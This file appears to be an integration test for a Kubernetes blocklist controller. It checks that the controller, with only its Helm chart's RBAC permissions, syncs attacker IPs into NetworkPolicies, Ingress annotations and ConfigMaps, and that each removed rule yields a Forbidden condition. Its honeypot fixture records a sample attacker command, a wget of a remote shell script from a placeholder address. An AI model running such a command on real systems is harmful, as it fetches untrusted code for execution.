// RBAC proven with the real programs: `blockfeed controller`, started with the chart's own flags and a token
// of the chart's ServiceAccount (TokenRequest API) — so with exactly the chart's permissions — completes a
// full sync of a subscription against a running `blockfeed serve`, and its clean-up on deletion; with one
// rule removed from the chart's ClusterRole the same sync fails with a Forbidden condition.
//
// A controller started without --namespace reconciles every subscription in the cluster, so this file runs in
// the k8s-serial project (a control plane of its own, after the other tiers, one file at a time) and its
// controllers watch their test's namespace only (the chart's controller.watchNamespace). What a controller did
// is read from the Events it reports under its own instance (hostname_pid_...), not only from the objects.
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { hostname, tmpdir } from 'node:os';
import path from 'node:path';
import {
  AuthorizationV1Api,
  CoreV1Api,
  CustomObjectsApi,
  NetworkingV1Api,
  RbacAuthorizationV1Api,
  type CoreV1Event,
  type V1NetworkPolicy,
} from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { BLOCKFEED, cliEnv, runCli, startServe, tempDataDir, type ServeProcess } from '../support/cli.ts';
import { CHART, helmWithValues, renderChart } from '../support/helm.ts';
import { eventually, freshNamespace, kubeConfig } from '../support/k8s.ts';
import { serviceAccountKubeconfigFile } from '../support/service-account.ts';

const ATTACKERS = ['81.2.69.142', '89.160.20.112', '2a02:cf40::1'];

interface Controller {
  child: ChildProcessWithoutNullStreams;
  instancePrefix: string;
  output: () => string;
  stop: () => Promise<void>;
}

/** The controller as the chart runs it: the Deployment's args, local ports, and the ServiceAccount's token. */
async function startControllerAs(release: string, namespace: string, kubeconfigFile: string, watchNamespace: string): Promise<Controller> {
  const objects = await renderChart({ api: { enabled: false }, controller: { watchNamespace } }, { release, namespace });
  const deployment = objects.find((o) => o.kind === 'Deployment' && o.metadata.name === `${release}-blockfeed-controller`);
  const args = (deployment?.spec as { template: { spec: { containers: { args: string[] }[] } } } | undefined)?.template.spec.containers[0]?.args;
  if (!args) throw new Error('no controller Deployment rendered');
  const local = args
    .map((a) => (a.startsWith('--metrics-bind-address=') ? '--metrics-bind-address=127.0.0.1:0' : a))
    .map((a) => (a.startsWith('--health-probe-bind-address=') ? '--health-probe-bind-address=0' : a));
  const child = spawn(BLOCKFEED, [...local, `--kubeconfig=${kubeconfigFile}`], { env: cliEnv({ LOG_LEVEL: 'debug' }) });
  let out = '';
  child.stdout.on('data', (d: Buffer) => (out = (out + d.toString()).slice(-50_000)));
  child.stderr.on('data', (d: Buffer) => (out = (out + d.toString()).slice(-50_000)));
  const exited = new Promise<void>((r) => child.once('exit', () => r()));
  return {
    child,
    instancePrefix: `${hostname()}_${child.pid}_`,
    output: () => out,
    stop: async () => {
      if (child.exitCode === null && child.signalCode === null) child.kill('SIGTERM');
      await exited;
    },
  };
}

function subscription(namespace: string, feedUrl: string, label: string) {
  return {
    apiVersion: 'blockfeed.dev/v1alpha1',
    kind: 'BlocklistSubscription',
    metadata: { name: 'attackers', namespace },
    spec: {
      feed: { url: feedUrl, endpoint: 'export', filters: { hours: 24 }, credentials: { secretRef: { name: 'blockfeed-key', key: 'apiKey' } } },
      interval: '5m',
      safety: { maxShrinkPercent: 100 },
      targets: [
        { networkPolicy: { namespaceSelector: { matchLabels: { 'blockfeed.dev/protect': label } }, podSelector: {} } },
        { ingressNginx: { ingressSelector: { matchLabels: { 'blockfeed.dev/waf': label } } } },
        { configMap: { name: 'attackers', formats: ['txt', 'nginx'] } },
      ],
    },
  };
}

describe("the controller with exactly the chart's RBAC", () => {
  const kc = kubeConfig();
  const core = kc.makeApiClient(CoreV1Api);
  const net = kc.makeApiClient(NetworkingV1Api);
  const custom = kc.makeApiClient(CustomObjectsApi);
  let dir: string;
  let serve: ServeProcess;
  let feedUrl: string;
  let apiKey: string;
  const controllers: Controller[] = [];

  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'blockfeed-chart-rbac-'));
    const dataDir = await tempDataDir();
    serve = await startServe({ BLOCKFEED_DATA_DIR: dataDir });
    feedUrl = `http://127.0.0.1:${serve.port}`;
    const ts = new Date(Date.now() - 3600_000).toISOString().replace(/\.\d+Z$/, 'Z');
    const events = ATTACKERS.map((ip, i) => JSON.stringify({ ts, src_ip: ip, dst_port: 22, service: 'ssh', source: 'honeypot', sensor: `hp-${i}`, command: 'wget http://203.0.113.9/x.sh' }));
    await writeFile(path.join(dir, 'events.ndjson'), events.join('\n') + '\n');
    const ingest = await runCli(['ingest', '--format', 'native', path.join(dir, 'events.ndjson')], { BLOCKFEED_DATA_DIR: dataDir });
    expect(ingest.code, ingest.stderr).toBe(0);
    const key = await runCli(['keys', 'create', '--tier', 'enterprise', '--name', 'chart-rbac'], { BLOCKFEED_DATA_DIR: dataDir });
    expect(key.code, key.stderr).toBe(0);
    apiKey = key.stdout.trim().split('\n').at(-1) ?? '';
    const list = await fetch(`${feedUrl}/api/export?hours=24`, { headers: { 'X-API-Key': apiKey } });
    expect((await list.text()).trim().split('\n').sort()).toEqual([...ATTACKERS].sort());
  });

  afterAll(async () => {
    for (const c of controllers) await c.stop();
    if (serve) {
      serve.child.kill('SIGTERM');
      await serve.exited;
    }
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  /** A release of the chart (controller only), a subscription namespace with the key, a protected namespace and an Ingress. */
  async function scenario(release: string) {
    const releaseNs = await freshNamespace('rbac');
    const subNs = await freshNamespace('rbac-sub');
    const label = releaseNs;
    const protectedNs = await freshNamespace('rbac-protected');
    await core.patchNamespace({ name: protectedNs, body: [{ op: 'add', path: '/metadata/labels/blockfeed.dev~1protect', value: label }] });
    const r = await helmWithValues(['install', release, CHART, '--namespace', releaseNs, '--kubeconfig', inject('kubeconfigPath')], { api: { enabled: false } });
    expect(r.code, r.stderr).toBe(0);
    await core.createNamespacedSecret({ namespace: subNs, body: { metadata: { name: 'blockfeed-key' }, stringData: { apiKey } } });
    await net.createNamespacedIngress({
      namespace: protectedNs,
      body: {
        metadata: { name: 'web', labels: { 'blockfeed.dev/waf': label }, annotations: { 'nginx.ingress.kubernetes.io/denylist-source-range': '198.18.0.1/32' } },
        spec: { defaultBackend: { service: { name: 'web', port: { number: 80 } } } },
      },
    });
    const file = await serviceAccountKubeconfigFile(releaseNs, `${release}-blockfeed-controller`, path.join(dir, `${release}.kubeconfig`));
    return { releaseNs, subNs, protectedNs, label, kubeconfigFile: file };
  }

  async function eventsBy(controller: Controller, namespace: string): Promise<CoreV1Event[]> {
    const list = await core.listNamespacedEvent({ namespace });
    return list.items.filter((e) => e.reportingInstance?.startsWith(controller.instancePrefix));
  }

  /** Waits for an Event of this controller; on timeout the error carries its Events and log. */
  async function eventFrom(controller: Controller, namespace: string, match: (e: CoreV1Event) => boolean, what: string): Promise<CoreV1Event> {
    try {
      return await eventually(async () => (await eventsBy(controller, namespace)).find(match), 60_000, what);
    } catch (err) {
      const seen = (await eventsBy(controller, namespace)).map((e) => `${e.type} ${e.reason}: ${e.message}`);
      throw new Error(`${(err as Error).message}\nits Events: ${JSON.stringify(seen)}\nits log:\n${controller.output().slice(-4000)}`, { cause: err });
    }
  }

  it('completes a full sync, and cleans up when the subscription is deleted', async () => {
    const s = await scenario('bf-rbac-full');
    const controller = await startControllerAs('bf-rbac-full', s.releaseNs, s.kubeconfigFile, s.subNs);
    controllers.push(controller);
    try {
      await custom.createNamespacedCustomObject({ group: 'blockfeed.dev', version: 'v1alpha1', namespace: s.subNs, plural: 'blocklistsubscriptions', body: subscription(s.subNs, feedUrl, s.label) });

      const synced = await eventFrom(controller, s.subNs, (e) => e.type === 'Normal' && e.reason === 'Synced', 'a Synced Event from this controller');
      expect(synced.message).toBeTruthy();
      expect((await eventsBy(controller, s.subNs)).filter((e) => e.type === 'Warning')).toEqual([]);
      // Its watches (CRDs, the objects it owns) are allowed too: none failed.
      expect(controller.output()).not.toMatch(/watch failed/);

      const policies = await net.listNamespacedNetworkPolicy({ namespace: s.protectedNs });
      expect(policies.items).toHaveLength(1);
      const except = (policies.items[0] as V1NetworkPolicy).spec?.ingress?.flatMap((r) => r._from ?? []).flatMap((p) => p.ipBlock?.except ?? []) ?? [];
      expect(except.sort()).toEqual(['2a02:cf40::1/128', '81.2.69.142/32', '89.160.20.112/32'].sort());
      const annotation = (await net.readNamespacedIngress({ name: 'web', namespace: s.protectedNs })).metadata?.annotations?.['nginx.ingress.kubernetes.io/denylist-source-range'] ?? '';
      expect(annotation.split(',').sort()).toEqual(['198.18.0.1/32', '81.2.69.142/32', '89.160.20.112/32', '2a02:cf40::1/128'].sort());
      const cm = await core.readNamespacedConfigMap({ name: 'attackers', namespace: s.subNs });
      expect(Object.keys(cm.data ?? {}).sort()).toEqual(['deny.conf', 'list.txt']);
      const sub = (await custom.getNamespacedCustomObject({ group: 'blockfeed.dev', version: 'v1alpha1', namespace: s.subNs, plural: 'blocklistsubscriptions', name: 'attackers' })) as {
        status?: { conditions?: { type: string; status: string }[]; entries?: number };
      };
      expect(sub.status?.conditions?.find((c) => c.type === 'Ready')?.status).toBe('True');
      expect(sub.status?.entries).toBe(3);

      // Deletion: the finalizer removes the policy in the other namespace and our part of the annotation.
      await custom.deleteNamespacedCustomObject({ group: 'blockfeed.dev', version: 'v1alpha1', namespace: s.subNs, plural: 'blocklistsubscriptions', name: 'attackers' });
      await eventually(async () => ((await net.listNamespacedNetworkPolicy({ namespace: s.protectedNs })).items.length === 0 ? true : undefined), 60_000, 'the policy to be removed');
      await eventually(
        async () => ((await net.readNamespacedIngress({ name: 'web', namespace: s.protectedNs })).metadata?.annotations?.['nginx.ingress.kubernetes.io/denylist-source-range'] === '198.18.0.1/32' ? true : undefined),
        60_000,
        "the Ingress annotation to be back to its owner's value",
      );
      await eventually(
        async () => {
          const left = (await custom.listNamespacedCustomObject({ group: 'blockfeed.dev', version: 'v1alpha1', namespace: s.subNs, plural: 'blocklistsubscriptions' })) as { items: unknown[] };
          return left.items.length === 0 ? true : undefined;
        },
        60_000,
        'the subscription to be gone (finalizer released)',
      );
    } finally {
      await controller.stop();
    }
  });

  // Each rule a sync depends on: without it the sync fails, and the condition says Forbidden. (Events and the
  // status are how the failure is reported, so their own rules cannot be shown this way.)
  it.each(['networkpolicies', 'ingresses', 'configmaps', 'secrets', 'namespaces'])('fails with a Forbidden condition without the %s rule', async (resource) => {
    const release = `bf-minus-${resource}`;
    const s = await scenario(release);
    const rbac = kc.makeApiClient(RbacAuthorizationV1Api);
    const role = await rbac.readClusterRole({ name: `${release}-blockfeed-controller` });
    const before = role.rules?.length ?? 0;
    const rule = role.rules?.find((r) => r.resources?.includes(resource));
    if (!rule) throw new Error(`the chart's ClusterRole has no ${resource} rule`);
    role.rules = (role.rules ?? []).filter((r) => r !== rule);
    expect(role.rules).toHaveLength(before - 1);
    await rbac.replaceClusterRole({ name: `${release}-blockfeed-controller`, body: role });
    // The authorizer learns of the change through its informer: wait until it refuses, then start.
    const authz = kc.makeApiClient(AuthorizationV1Api);
    const user = `system:serviceaccount:${s.releaseNs}:${release}-blockfeed-controller`;
    await eventually(
      async () => {
        const review = await authz.createSubjectAccessReview({
          body: { spec: { user, groups: ['system:serviceaccounts'], resourceAttributes: { verb: rule.verbs[0], group: rule.apiGroups?.[0], resource, namespace: s.protectedNs } } },
        });
        return review.status?.allowed ? undefined : true;
      },
      30_000,
      'the authorizer to see the reduced ClusterRole',
    );

    const controller = await startControllerAs(release, s.releaseNs, s.kubeconfigFile, s.subNs);
    controllers.push(controller);
    try {
      await custom.createNamespacedCustomObject({ group: 'blockfeed.dev', version: 'v1alpha1', namespace: s.subNs, plural: 'blocklistsubscriptions', body: subscription(s.subNs, feedUrl, s.label) });

      const warning = await eventFrom(controller, s.subNs, (e) => e.type === 'Warning', 'a Warning Event from this controller');
      expect(warning.message).toMatch(/forbidden/i);
      expect(warning.message).toContain(resource);
      const sub = (await custom.getNamespacedCustomObject({ group: 'blockfeed.dev', version: 'v1alpha1', namespace: s.subNs, plural: 'blocklistsubscriptions', name: 'attackers' })) as {
        status?: { conditions?: { type: string; status: string; message: string }[] };
      };
      const degraded = sub.status?.conditions?.find((c) => c.type === 'Degraded');
      expect(degraded?.status).toBe('True');
      expect(degraded?.message).toMatch(/forbidden/i);
    } finally {
      await controller.stop();
    }
  });
});
